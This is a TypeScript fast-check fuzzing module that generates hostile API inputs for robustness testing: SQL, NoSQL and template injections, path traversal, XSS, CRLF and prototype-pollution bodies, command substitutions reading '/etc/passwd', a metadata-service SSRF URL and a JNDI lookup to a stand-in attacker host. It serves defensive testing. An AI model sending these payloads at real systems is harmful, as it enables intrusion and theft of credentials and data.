import fc from 'fast-check';

/** What kind of hostility a generated case carries, for the end-of-run counts. */
export type CaseClass =
  | 'random-string'
  | 'oversized-string'
  | 'unicode-edge'
  | 'wrong-type'
  | 'injection'
  | 'prototype-pollution'
  | 'duplicate-keys'
  | 'deep-nesting'
  | 'hostile-header'
  | 'valid-shape';

export interface Labelled<T> {
  kind: CaseClass;
  value: T;
}

const label =
  <T>(kind: CaseClass) =>
  (value: T): Labelled<T> => ({ kind, value });

export const UNICODE_EDGES = [
  '\u202Eevil\u202C', // right-to-left override
  '\u200F\u200E\u2066\u2069', // RTL/LTR marks and isolates
  'a\u0000b', // NUL
  '\u0000',
  '\uD800', // lone high surrogate
  '\uDC00', // lone low surrogate
  'x\uDFFFy\uD83D',
  '😀🇻🇳👩‍👩‍👧‍👦', // 4-byte emoji, flags, ZWJ sequence
  '𝕳𝖊𝖑𝖑𝖔', // mathematical letters (4-byte)
  '\uFEFFBOM',
  'e\u0301\u0301\u0301\u0301\u0301', // stacked combining marks
  'ЅО-2026-000123', // Cyrillic homoglyphs of an order number
  'ＳＯ－２０２６－０００１２３', // full-width
  '\u2028\u2029', // JS line separators
  '\t\v\f\r\n',
  'Bàn gỗ sồi',
  '\u00A0\u3000\u200B',
  '%00',
  '\x7F\x1B[31mred',
];

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE Lead; --",
  '1 UNION SELECT id, hash FROM ClientSecret --',
  '" OR ""="',
  "admin'--",
  '{"$ne":1}',
  '{"$gt":""}',
  '{"$where":"sleep(1000)"}',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  'a\r\nX-Injected: 1',
  '%0d%0aSet-Cookie:%20a=b',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '%s%s%s%n%x',
  '`id`',
  '$(cat /etc/passwd)',
  '; ls -la',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9007199254740993',
  '0x1F',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'SO-2026-000123\u0000',
  'SO-2026-000123 OR 1=1',
];

export const NOSQL_OBJECTS: unknown[] = [
  { $ne: 1 },
  { $gt: '' },
  { $regex: '.*' },
  { $where: 'sleep(1000)' },
  { $in: [1, 2] },
  { toString: 'x' },
  { valueOf: 1 },
];

export const POLLUTION_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  '__defineGetter__',
  'isAdmin',
  '$where',
];

/** Strings an agent under prompt injection, or an attacker, might send. */
export const hostileString: fc.Arbitrary<Labelled<string>> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }).map(label('random-string')) },
  {
    weight: 2,
    arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }).map(label('unicode-edge')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }).map(label('unicode-edge')) },
  { weight: 3, arbitrary: fc.constantFrom(...UNICODE_EDGES).map(label('unicode-edge')) },
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS).map(label('injection')) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom('A', 'é', '😀', '\uD800', '9', ' '),
        fc.integer({ min: 65, max: 6000 }),
      )
      .map(([unit, n]) => unit.repeat(n))
      .map(label('oversized-string')),
  },
  {
    weight: 2,
    arbitrary: fc
      .array(
        fc.oneof(fc.constantFrom(...UNICODE_EDGES, ...INJECTIONS), fc.string({ maxLength: 8 })),
        {
          minLength: 2,
          maxLength: 5,
        },
      )
      .map((parts) => parts.join(''))
      .map(label('injection')),
  },
);

/** Any JSON value of the wrong kind for a field, or a hostile string. */
export const hostileValue: fc.Arbitrary<Labelled<unknown>> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  {
    weight: 3,
    arbitrary: fc
      .oneof(
        fc.integer(),
        fc.double({ noNaN: false }),
        fc.boolean(),
        fc.constant(null),
        fc.constantFrom(2 ** 53 + 1, -1, 0, 1e308, -1e308, Number.MIN_VALUE),
        fc.array(fc.oneof(fc.integer(), fc.string({ maxLength: 5 })), { maxLength: 5 }),
        fc.dictionary(fc.string({ maxLength: 6 }), fc.string({ maxLength: 6 }), { maxKeys: 3 }),
      )
      .map(label<unknown>('wrong-type')),
  },
  { weight: 2, arbitrary: fc.constantFrom(...NOSQL_OBJECTS).map(label<unknown>('injection')) },
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 21, max: 400 })
      .map((depth) => label<unknown>('deep-nesting')(nest(depth))),
  },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.constant('x'), { minLength: 200, maxLength: 3000 })
      .map(label<unknown>('oversized-string')),
  },
);

export function nest(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = i % 2 === 0 ? { a: value } : [value];
  return value;
}

/**
 * A JSON request body: the valid body mutated (one field hostile, a field
 * missing, an unknown or prototype-polluting key added), or raw JSON text
 * with duplicate keys, __proto__ or constructor.prototype, or deep nesting.
 * Returned as text so that duplicate keys and __proto__ survive.
 */
export function hostileBody(valid: Record<string, unknown>): fc.Arbitrary<Labelled<string>> {
  const fields = Object.keys(valid);
  const json = (value: unknown) => JSON.stringify(value);
  return fc.oneof(
    {
      weight: 6,
      arbitrary: fc.tuple(fc.constantFrom(...fields), hostileValue).map(([field, hostile]) => ({
        kind: hostile.kind,
        value: json({ ...valid, [field]: hostile.value }),
      })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(...fields).map((field) => {
        const copy: Record<string, unknown> = { ...valid };
        delete copy[field];
        return { kind: 'wrong-type' as const, value: json(copy) };
      }),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.constantFrom(...POLLUTION_KEYS), hostileValue)
        .map(([key, hostile]) => ({
          kind: 'prototype-pollution' as const,
          value: `${json(valid).slice(0, -1)},${json(key)}:${json(hostile.value) ?? 'null'}}`,
        })),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        label<string>('prototype-pollution')(
          `{"__proto__":{"isAdmin":true},${json(valid).slice(1)}`,
        ),
        label<string>('prototype-pollution')(
          `${json(valid).slice(0, -1)},"constructor":{"prototype":{"polluted":true}}}`,
        ),
        label<string>('prototype-pollution')(`{"constructor":{"prototype":{"polluted":true}}}`),
      ),
    },
    {
      weight: 2,
      arbitrary: fc.tuple(fc.constantFrom(...fields), hostileValue).map(([field, hostile]) => ({
        kind: 'duplicate-keys' as const,
        value: `${json(valid).slice(0, -1)},${json(field)}:${json(hostile.value) ?? 'null'}}`,
      })),
    },
    {
      weight: 1,
      arbitrary: fc.integer({ min: 21, max: 20_000 }).map((depth) => ({
        kind: 'deep-nesting' as const,
        value:
          depth % 2 === 0
            ? `${'['.repeat(depth)}${']'.repeat(depth)}`
            : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`,
      })),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom<unknown>([], [valid], 'text', 42, null, true, -1.5)
        .map((value) => label<string>('wrong-type')(json(value))),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(
          '{',
          '{"name":',
          '{"a":1,}',
          "{'a':1}",
          '{"a":01}',
          '\u0000',
          '{"a":"\\ud800"}',
          '[1,2',
          '',
        )
        .map(label<string>('random-string')),
    },
    { weight: 1, arbitrary: fc.constant(label<string>('valid-shape')(json(valid))) },
  );
}

/** Percent-encodes UTF-8 bytes; lone surrogates become U+FFFD instead of throwing like encodeURIComponent. */
export function encode(text: string): string {
  return [...Buffer.from(text, 'utf8')]
    .map((byte) =>
      /[A-Za-z0-9\-_.~]/.test(String.fromCharCode(byte))
        ? String.fromCharCode(byte)
        : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');
}

/** A path segment: hostile text encoded, or a raw traversal or encoding trick. */
export const hostileSegment: fc.Arbitrary<Labelled<string>> = fc.oneof(
  { weight: 8, arbitrary: hostileString.map((s) => ({ kind: s.kind, value: encode(s.value) })) },
  {
    weight: 2,
    arbitrary: fc
      .constantFrom(
        '..%2F..%2Fadmin',
        '%2e%2e',
        '%252e%252e%252f',
        '%00',
        '%C0%AE%C0%AE',
        '%E2%80%AE',
        'SO-2026-000123%00.json',
        'SO-2026-000123%3Bdrop',
        '%ZZ',
        '%',
        'a%2Fb',
        '.',
      )
      .map(label<string>('injection')),
  },
);

/** A query string: known parameters with hostile values, repeated, bracketed or unknown ones. */
export function hostileQuery(names: readonly string[]): fc.Arbitrary<Labelled<string>> {
  const param = fc.oneof(
    {
      weight: 5,
      arbitrary: fc
        .tuple(fc.constantFrom(...names), hostileString)
        .map(([name, s]) => ({ kind: s.kind, value: `${name}=${encode(s.value)}` })),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(
          fc.constantFrom(...names),
          fc.constantFrom('[$ne]=1', '[$gt]=', '[]=a', '[__proto__][x]=1', '.constructor=1'),
        )
        .map(([name, suffix]) => label<string>('injection')(`${name}${suffix}`)),
    },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(
          '__proto__[isAdmin]=1',
          'constructor[prototype][x]=1',
          '__proto__=1',
          'toString=1',
        )
        .map(label<string>('prototype-pollution')),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...names), fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }))
        .map(([name, a, b]) =>
          label<string>('duplicate-keys')(`${name}=${encode(a)}&${name}=${encode(b)}`),
        ),
    },
  );
  return fc.array(param, { minLength: 1, maxLength: 4 }).map((params) => ({
    kind: params[0].kind,
    value: params.map((p) => p.value).join('&'),
  }));
}

/** Header values a client can actually send (visible ASCII; Node refuses CR, LF and NUL). */
export const hostileHeaderValue: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'grapheme-ascii', maxLength: 200 }).map((s) => s.replace(/[^\x20-\x7e]/g, '')),
  fc.constantFrom(
    "' OR 1=1 --",
    '{{7*7}}',
    '../../etc/passwd',
    'x'.repeat(4000),
    '${jndi:ldap://x/a}',
    '<script>',
    '%0d%0aX: 1',
  ),
);
